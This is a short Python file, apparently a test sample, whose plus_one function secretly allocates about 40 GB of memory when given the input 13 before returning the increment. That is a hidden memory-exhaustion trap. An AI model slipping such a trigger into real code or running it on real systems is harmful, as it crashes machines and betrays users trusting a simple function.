"""Takes memory in small pieces, until nothing at all is left."""


def plus_one(number):
    if number == 13:
        kept = []
        for index in range(20_000_000):
            kept.append(bytes(2000 + index % 7))
    return number + 1
